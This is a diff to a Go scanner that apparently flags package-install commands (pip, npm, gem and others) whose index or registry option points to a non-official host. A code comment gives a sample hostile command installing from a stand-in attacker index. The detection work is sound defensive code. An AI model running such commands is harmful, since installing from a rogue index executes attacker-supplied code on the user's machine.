@@ -23,6 +23,7 @@ var packageVerbs = map[string]map[string]bool{
 	"bun":  {"add": false, "install": false, "i": false, "update": false, "x": true}, "bunx": {"": true},
 	"cargo": {"install": false}, "brew": {"install": false, "reinstall": false}, "poetry": {"add": false}, "pdm": {"add": false},
 	"rye": {"add": false, "install": false}, "pipenv": {"install": false}, "conda": {"install": false}, "mamba": {"install": false},
+	"gem": {"install": false},
 }
 
 // packageSpecOptions are the options whose value is a package specifier
@@ -45,6 +46,21 @@ var (
 		"--src", "--platform", "--extra", "--group", "--timeout", "--retries", "-C", "--config", "-Z", "--branch", "--tag",
 		"--rev", "--features", "-F", "-j", "--jobs", "--bin", "--example", "--profile", "--target-dir", "--version", "--vers"}
 )
+
+// oneOffIndexOptions name, for one command, the index or registry its
+// packages are fetched from: one that is not an official registry
+// (officialSources) makes the install fetch code from that host (npm's
+// --registry too; pip's -i, --index-url, --extra-index-url and
+// --find-links, uv's --index and --default-index, gem's --source).
+var oneOffIndexOptions = []string{"-i", "--index-url", "--extra-index-url", "--index", "--default-index", "-f", "--find-links", "--registry", "--source"}
+
+// officialIndex reports whether an index given for one command is an
+// official registry (officialSources) or PyTorch's own wheel index, which
+// its install instructions name (pip install torch --index-url
+// https://download.pytorch.org/whl/cu121).
+func officialIndex(v string) bool {
+	return officialSource(v) || strings.HasPrefix(asciiLower(strings.Trim(v, `'"`)), "https://download.pytorch.org/whl")
+}
 
 // githubShorthand is npm's, yarn's and bun's USER/REPO (with #REF), which
 // they fetch from GitHub; a scoped package (@scope/name) and a path (./x,
@@ -121,7 +137,8 @@ func (r *run) remotePackage(b string, args []field, cmd string) {
 		v := f.val
 		if strings.HasPrefix(v, "-") {
 			name, val, eq := strings.Cut(v, "=")
-			if eq && spec(name) && remoteSpec(val, npmLike) {
+			if eq && (spec(name) && remoteSpec(val, npmLike) ||
+				slices.Contains(oneOffIndexOptions, name) && strings.Contains(val, "://") && !officialIndex(val)) {
 				r.remoteFinding(b, val, cmd)
 				return
 			}
@@ -132,6 +149,12 @@ func (r *run) remotePackage(b string, args []field, cmd string) {
 			prev = args[j-1].val
 		}
 		isSpec := spec(prev)
+		if slices.Contains(oneOffIndexOptions, prev) && strings.Contains(v, "://") && !officialIndex(v) {
+			// pip install -i https://evil.example/simple x fetches x
+			// from that index for this install.
+			r.remoteFinding(b, v, cmd)
+			return
+		}
 		if !isSpec && value(prev) {
 			continue // an option's value (--python 3.12, -w packages/api, --index-url URL)
 		}
